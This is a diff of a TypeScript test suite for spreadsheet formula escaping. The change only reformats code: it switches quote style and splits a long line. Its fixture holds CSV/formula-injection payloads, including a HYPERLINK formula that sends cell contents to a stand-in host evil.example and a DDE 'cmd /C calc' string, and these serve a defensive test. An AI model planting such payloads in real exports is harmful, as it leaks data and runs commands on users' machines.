@@ -33,7 +33,7 @@ describe('escapeFormula', () => {
 
 const hostile = {
   name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  department: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  department: "@SUM(1+1)*cmd|' /C calc'!A0",
   phone: '+8613800000000',
   balance: -12,
   note: '\t=1+1',
@@ -108,7 +108,9 @@ describe('pull -o FILE.csv with formulas from the platform', () => {
     const ws = wb.worksheets[0]!;
     // Strings are inline rich-text runs (space preserved): compare their text.
     const header = Array.from({ length: ws.getRow(1).cellCount }, (_, i) => ws.getRow(1).getCell(i + 1).text);
-    const rowNo = [...Array(ws.rowCount).keys()].map((i) => i + 1).find((i) => ws.getRow(i).getCell(header.indexOf('userId') + 1).text === key)!;
+    const rowNo = [...Array(ws.rowCount).keys()]
+      .map((i) => i + 1)
+      .find((i) => ws.getRow(i).getCell(header.indexOf('userId') + 1).text === key)!;
     for (const [field, value] of Object.entries(hostile)) {
       const cell = ws.getRow(rowNo).getCell(header.indexOf(field) + 1);
       expect([field, cell.type]).toEqual([field, ExcelJS.ValueType.RichText]);
